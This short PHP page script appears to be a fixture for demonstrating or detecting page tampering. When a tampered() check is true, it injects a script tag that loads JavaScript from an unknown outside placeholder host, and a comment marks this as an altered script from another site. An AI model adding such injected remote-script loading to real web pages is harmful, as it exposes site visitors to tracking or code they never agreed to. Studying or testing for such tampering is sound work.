<?php
// Altered: a script from another site.
require __DIR__ . '/common.php';
head('Page B');
echo shop_text();
if (tampered()) echo "<script src=\"https://cdn.tracker-unknown.example/t.js\"></script>";
echo "</body></html>";
